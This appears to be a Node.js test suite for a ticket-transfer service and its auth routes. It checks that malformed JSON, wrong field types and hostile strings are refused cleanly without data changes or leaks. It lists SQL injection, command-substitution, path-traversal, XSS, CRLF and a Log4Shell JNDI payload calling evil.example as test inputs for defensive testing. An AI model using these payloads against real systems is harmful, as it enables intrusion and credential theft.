// Malformed and hostile input, function by function and field by field: a clear JSON error with the
// right status and a stable code, nothing changed, and no worker dies of it.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { after, describe, test } from 'node:test';

import { Stack } from '../harness/stack.mjs';
import { call } from '../harness/wire.mjs';
import { address, event, person, signedIn, ticket, transferRow } from '../harness/world.mjs';

const stack = await Stack.start(import.meta.filename, { TRANSFERS_PER_MINUTE: 0, TRANSFERS_PER_DAY: 0, TRANSFERS_OPEN_PER_EVENT: 0 });
after(() => stack.stop());

const one = await signedIn(stack, { name: 'Awa Sawadogo' });
const staff = await signedIn(stack, { name: 'Salif Portier' });
const what = await event(stack, { staff: [staff] });
const mine = await ticket(stack, one, { of: what });
const uuid = crypto.randomUUID;

// Each function with a body that is fine, and how its refusals of input look: transfer-ticket and the
// scan answer business with 200, the others with the real status (contract wire.md 3.4).
const functions = {
	'transfer-ticket': { fine: () => ({ ticketId: mine, recipientEmail: address() }), fields: ['ticketId', 'recipientEmail', 'recipientPhone', 'recipientName', 'message'], invalid: 200, text: 'error', who: one },
	'claim-pending-transfer': { fine: () => ({ transferId: uuid() }), fields: ['transferId'], invalid: 422, text: 'error', who: one },
	'cancel-transfer': { fine: () => ({ transferId: uuid() }), fields: ['transferId'], invalid: 422, text: 'error', who: one },
	'decline-transfer': { fine: () => ({ transferId: uuid() }), fields: ['transferId'], invalid: 422, text: 'error', who: one },
	'validate-ticket': { fine: () => ({ ticketId: uuid() }), fields: ['ticketId', 'encodedData', 'scanLocation'], invalid: 200, text: 'message', who: staff },
};

const deep = (n, open = '[', close = ']') => open.repeat(n) + close.repeat(n);
const bytes = (...parts) => Buffer.concat(parts.map(part => Buffer.from(part)));

// No JSON object at all: 400 bad_json from every function.
const bodies = {
	'nothing but space': ' \n ',
	'an open brace': '{',
	'a list': '[]',
	'a list of objects': '[{"ticketId":"x"}]',
	'a text': '"ticketId"',
	'a number': '7',
	null: 'null',
	true: 'true',
	'no JSON': 'ticketId=1&recipientEmail=a@example.org',
	'single quotes': "{'ticketId':'x'}",
	'a name without quotes': '{ticketId:"x"}',
	'a comma too many': '{"ticketId":"x",}',
	'a comma too few': '{"ticketId":"x" "message":"y"}',
	'two objects': '{}{}',
	'text behind the object': '{} x',
	'a comment': '{/* x */}',
	NaN: '{"x":NaN}',
	Infinity: '{"x":-Infinity}',
	'a leading zero': '{"x":01}',
	'a plus sign': '{"x":+1}',
	'a point without digits': '{"x":1.}',
	'a number beyond every range': '{"x":1e400}',
	'an integer of 40 digits': `{"x":${'9'.repeat(40)}}`,
	'a number of 3 000 digits': `{"x":${'9'.repeat(3000)}}`,
	'a key twice': '{"ticketId":"a","ticketId":"b"}',
	'a key twice, once escaped': '{"ticketId":"a","ticket\\u0049d":"b"}',
	'a key twice further in': '{"x":{"a":1,"a":2}}',
	'nested 17 deep': `{"x":${deep(17)}}`,
	'nested 300 deep': deep(300, '{"x":', '}').replace('}', '1}'),
	'1000 open brackets': '['.repeat(1000),
	'a NUL byte': bytes('{"message":"a', [0], 'b"}'),
	'a NUL byte behind it': bytes('{}', [0]),
	'\\u0000 in a text': '{"message":"a\\u0000b"}',
	'\\u0000 in a name': '{"ticketId\\u0000":"x"}',
	'a control character': '{"message":"a\u0001b"}',
	'a raw line break': '{"message":"a\nb"}',
	'a raw tab': '{"message":"a\tb"}',
	'half a surrogate pair': '{"message":"\\ud800"}',
	'the other half': '{"message":"\\udc00x"}',
	'a pair in the wrong order': '{"message":"\\udc00\\ud800"}',
	'a bad escape': '{"message":"\\x41"}',
	'half an escape': '{"message":"\\u00"}',
	'Latin-1 bytes': bytes('{"message":"', [0xe9], '"}'),
	'an overlong slash': bytes('{"message":"', [0xc0, 0xaf], '"}'),
	'a surrogate in UTF-8': bytes('{"message":"', [0xed, 0xa0, 0x80], '"}'),
	'a cut character': bytes('{"message":"', [0xe2, 0x82], '"}'),
	'beyond Unicode': bytes('{"message":"', [0xf4, 0x90, 0x80, 0x80], '"}'),
	'a byte order mark': bytes([0xef, 0xbb, 0xbf], '{}'),
	'UTF-16': Buffer.from('{"ticketId":"x"}', 'utf16le'),
	gzip: bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xab, 0xae, 5, 0, 0x43, 0xbf, 0xa6, 0xa3, 2, 0, 0, 0]),
};

// Not a text: 422 invalid_fields (or 200 where business refusals are).
const wrongTypes = { 'a number': 7, 'a fraction': 1.5, true: true, false: false, 'a list': [], 'a list of texts': ['a@example.org'], 'an object': {}, 'an object with a text': { value: 'x' } };

const injections = [
	"' OR '1'='1", "'; DROP TABLE public.tickets; --", "' UNION SELECT encrypted_password FROM auth.users --", "\\'; SELECT pg_sleep(5); --", "1; SELECT pg_sleep(5)",
	"') OR pg_sleep(5) IS NULL --", "$$; SELECT pg_sleep(5); $$", "%' OR 1=1 --", "admin'/*", "*/ OR 1=1 --", "x' AND 1=(SELECT COUNT(*) FROM private.people) --", "$1", "${jndi:ldap://evil.example/a}",
	"{{7*7}}", "<script>alert(1)</script>", "../../../../etc/passwd", "`id`", "$(id)", "| id", "%s%s%s%n%n", "%x%x%x%x", "\"; \\! id", "E'\\x27 OR 1=1'", "' || pg_read_file('/etc/passwd') || '", "\r\nX-Evil: 1", "a\u202eb", "\ufeff", "\u2028",
];

function assertRefusal(answer, { status, text }, code) {
	assert.equal(answer.status, status, answer.text.slice(0, 300));
	assert.equal(answer.headers.get('content-type'), 'application/json');
	assert.equal(answer.body.success, false, answer.text);
	assert.equal(typeof answer.body[text], 'string', answer.text);
	if (code)
		assert.equal(answer.body.code, code, answer.text);
	else
		assert.match(answer.body.code, /^[a-z_]+$/);
	assertNoLeak(answer);
}

// That field and no other. A scan without an id that can be read also lacks a code.
function assertNamed(answer, field) {
	assert.deepEqual(Object.keys(answer.body.fields).filter(name => name !== field), []);
	assert.equal(typeof answer.body.fields[field], 'string');
}

// Words that only the database, the code or the machine would say.
function assertNoLeak(answer) {
	assert.doesNotMatch(answer.text, /\b(select|insert|update|relation|column|syntax error|pg_|psql|postgres|libpq|sqlstate|\.c:\d|\/work\/|\/var\/|violates|stack)\b/i);
}

async function photograph() {
	const { rows } = await stack.db.query(`
		select (select count(*) from public.tickets) as tickets, (select count(*) from public.ticket_transfers) as transfers, (select count(*) from public.notifications) as notices,
			(select count(*) from auth.users) as users, (select count(*) from public.ticket_scans where result = 'ACCEPTED') as scans, (select sum(epoch) from private.ticket_state) as epochs`);

	return rows[0];
}

async function unchanged(attempt) {
	const before = await photograph();

	await attempt();
	assert.deepEqual(await photograph(), before);
}

for (const [name, fn] of Object.entries(functions)) {
	const send = (body, options) => call(stack, name, { token: fn.who.token, body, ...options });
	const business = { status: fn.invalid, text: fn.text };

	describe(name, () => {
		for (const [what, body] of Object.entries(bodies)) {
			test(`refuses ${what} as a body`, async () => {
				assertRefusal(await send(body), { status: 400, text: fn.text }, 'bad_json');
				// the contract's order: JSON first, then the session
				if (body !== bodies.gzip)
					assertRefusal(await send(body, { token: undefined }), { status: 400, text: fn.text }, 'bad_json');
			});
		}

		test('reads an empty body as an empty object', async () => {
			const codes = { 'transfer-ticket': 'ticket_id_required', 'claim-pending-transfer': 'transfer_id_required', 'validate-ticket': 'code_required' };

			for (const body of [undefined, '', {}]) {
				const answer = await send(body);
				assertRefusal(answer, name === 'claim-pending-transfer' ? { status: 400, text: fn.text } : business, codes[name] ?? 'invalid_fields');
			}
		});

		test('ignores members that it does not know, up to 16 levels deep', async () => {
			const answer = await send(JSON.stringify({ ...fn.fine(), debug: true, __proto__x: 1, role: 'ADMIN', user_id: uuid() }).replace('}', `,"x":${deep(15)}}`));

			assert.notEqual(answer.body.code, 'bad_json');
			assert.notEqual(answer.body.code, 'invalid_fields');
		});

		for (const field of fn.fields) {
			for (const [what, value] of Object.entries(wrongTypes)) {
				test(`names ${field} when it is ${what}`, () => unchanged(async () => {
					const answer = await send({ ...fn.fine(), [field]: value });

					assertRefusal(answer, business, 'invalid_fields');
					assertNamed(answer, field);
				}));
			}

			test(`names ${field} when it is absurdly long`, () => unchanged(async () => {
				const answer = await send({ ...fn.fine(), [field]: 'é'.repeat(1800) });

				assertRefusal(answer, business, 'invalid_fields');
				assertNamed(answer, field);
			}));

			test(`takes null as an absent ${field}`, async () => {
				const answer = await send({ ...fn.fine(), [field]: null });
				assert.notEqual(answer.body.code, 'bad_json');
				assert.ok(answer.status < 500);
			});

			test(`takes SQL and other languages in ${field} as text`, { timeout: 60_000 }, async () => {
				// names and messages may be anything: only what is refused must change nothing
				const isFree = ['recipientName', 'message', 'scanLocation'].includes(field);
				const attempt = async () => {
					for (const text of injections) {
						const began = performance.now();
						const answer = await send({ ...fn.fine(), ...(isFree ? { ticketId: uuid() } : {}), [field]: text });

						assert.ok(answer.status < 500, `${text}: ${answer.status} ${answer.text}`);
						assert.ok(performance.now() - began < 4000, `${text} took its time`);
						assert.equal(answer.body.success, false, text);
						assert.match(answer.body.code, /^[a-z_]+$/);
						assertNoLeak({ text: answer.text.replaceAll(JSON.stringify(text).slice(1, -1), '') });
					}
				};

				await unchanged(attempt);
			});
		}

		for (const [what, value] of [['a uuid without dashes', uuid().replaceAll('-', '')], ['a uuid in braces', `{${uuid()}}`], ['a urn', `urn:uuid:${uuid()}`], ['one letter too many', `${uuid()}a`], ['one digit too few', uuid().slice(1)], ['letters that are no hex', 'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz'], ['a number in a text', '12']]) {
			const field = fn.fields.find(known => known.endsWith('Id'));

			test(`names ${field} when it is ${what}`, async () => {
				const answer = await send({ ...fn.fine(), [field]: value });

				assertRefusal(answer, business, 'invalid_fields');
				assert.ok(answer.body.fields[field]);
			});
		}

		test('says it in the language of the client', async () => {
			const [first] = fn.fields;
			const french = await send({ [first]: 7 }), english = await send({ [first]: 7 }, { headers: { 'Accept-Language': 'en-US,en;q=0.9' } });

			assert.notEqual(french.body[fn.text], english.body[fn.text]);
			assert.equal(french.body.code, english.body.code);
			for (const header of ['', '*', ';;;q=', 'en;q=0, fr', 'x'.repeat(4000), 'é'])
				assert.ok((await send({ [first]: 7 }, { headers: { 'Accept-Language': Buffer.from(header).toString('latin1') } })).status < 500);
		});
	});
}

describe('ids of other people', () => {
	test('look like none at all', async () => {
		const theirs = await ticket(stack, await person(stack), { of: what });

		await unchanged(async () => {
			const foreign = await call(stack, 'transfer-ticket', { token: one.token, body: { ticketId: theirs, recipientEmail: 'a@example.org' } });
			const none = await call(stack, 'transfer-ticket', { token: one.token, body: { ticketId: uuid(), recipientEmail: 'a@example.org' } });

			assert.deepEqual([foreign.status, foreign.text], [none.status, none.text]);
		});
	});

	test('of a transfer between others look like none to cancel and decline', async () => {
		const sender = await signedIn(stack);
		const { body } = await call(stack, 'transfer-ticket', { token: sender.token, body: { ticketId: await ticket(stack, sender, { of: what }), recipientEmail: address() } });

		for (const name of ['cancel-transfer', 'decline-transfer']) {
			const theirs = await call(stack, name, { token: one.token, body: { transferId: body.transferId } });
			const none = await call(stack, name, { token: one.token, body: { transferId: uuid() } });

			assert.deepEqual([theirs.status, theirs.text], [none.status, none.text]);
		}
		assert.equal((await transferRow(stack, body.transferId)).status, 'PENDING');
	});
});

describe('texts that are allowed arrive as they were sent', () => {
	for (const text of ['Ça va ? 🎟️ «très» bien', 'a\u202eb', '𝕏'.repeat(100), '\\ / " \' < > &', 'ligne un\nligne deux\ttab']) {
		test(JSON.stringify(text.slice(0, 30)), async () => {
			const id = await ticket(stack, one, { of: what });
			const { body } = await call(stack, 'transfer-ticket', { token: one.token, body: { ticketId: id, recipientEmail: address(), recipientName: 'Zoé', message: text } });

			assert.equal(body.success, true, JSON.stringify(body));
			assert.equal((await transferRow(stack, body.transferId)).message, text);
		});
	}
});

describe('auth', () => {
	const auth = (path, options) => call(stack, `/auth/v1${path}`, { ...options, headers: { 'X-Supabase-Api-Version': '2024-01-01', ...options?.headers } });
	const routes = [['/signup', { email: 'x@example.org', password: 'Karité-2027!' }], ['/token?grant_type=password', { email: 'x@example.org', password: 'Karité-2027!' }], ['/token?grant_type=refresh_token', { refresh_token: 'x' }]];

	for (const [path, fine] of routes) {
		for (const [what, body] of Object.entries(bodies)) {
			test(`${path} refuses ${what} as a body`, async () => {
				const answer = await auth(path, { body });

				assert.deepEqual([answer.status, answer.body.code], [400, 'bad_json'], answer.text);
			});
		}
		for (const field of Object.keys(fine)) {
			for (const [what, value] of Object.entries(wrongTypes)) {
				test(`${path} refuses ${field} when it is ${what}`, () => unchanged(async () => {
					const answer = await auth(path, { body: { ...fine, [field]: value } });

					assert.deepEqual([answer.status, answer.body.code], [400, 'validation_failed'], answer.text);
				}));
			}
			test(`${path} takes SQL and other languages in ${field} as text`, { timeout: 60_000 }, async () => {
				for (const text of field === 'password' ? injections.slice(0, 6) : injections) {
					const answer = await auth(path, { body: { ...fine, email: address(), [field]: text } });

					assert.ok(answer.status < 500 && (path === '/signup' || answer.status >= 400), `${text}: ${answer.status}`);
					assertNoLeak({ text: answer.text.replaceAll(JSON.stringify(text).slice(1, -1), '') });
				}
			});
		}
	}

	test('caps the metadata that goes into every token', async () => {
		const answer = await auth('/signup', { body: { email: address(), password: 'Karité-2027!', data: { bio: 'x'.repeat(20_000) } } });

		assert.equal(answer.status, 400);
		assert.equal(answer.body.code, 'validation_failed');
	});
});
